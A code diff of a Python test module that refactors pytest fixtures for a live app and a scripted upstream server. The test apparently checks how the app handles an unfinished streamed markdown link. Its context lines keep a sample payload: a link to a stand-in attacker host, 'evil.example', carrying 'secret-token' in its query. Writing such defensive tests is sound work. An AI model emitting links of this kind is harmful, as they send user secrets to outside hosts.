@@ -14,25 +14,20 @@ import httpx
 import pytest
 
 from tests.support.gradio_queue import GradioQueue, browser_owner
-from tests.support.live_app import LiveApp, live_app
+from tests.support.live_app import LiveApp, module_live_app, module_upstream
 from tests.support.scripted_upstream import Script, ScriptedUpstream
 
 EVIL = "evil.example"
 HELD = f"Here is the summary. [details](https://{EVIL}/?q=secret-token"  # the link never closes
 
 
-@pytest.fixture(scope="module")
-def upstream():
-    server = ScriptedUpstream().start()
-    yield server
-    server.stop()
+upstream = module_upstream()
 
 
 @pytest.fixture(scope="module")
 def app(tmp_path_factory: pytest.TempPathFactory, upstream: ScriptedUpstream):
-    with pytest.MonkeyPatch.context() as monkeypatch:
-        with live_app(tmp_path_factory.mktemp("history"), upstream, monkeypatch) as live:
-            yield live
+    with module_live_app(tmp_path_factory, upstream, "history") as live:
+        yield live
 
 
 def reopened(app: LiveApp, make_session, client: httpx.Client | None = None) -> str:
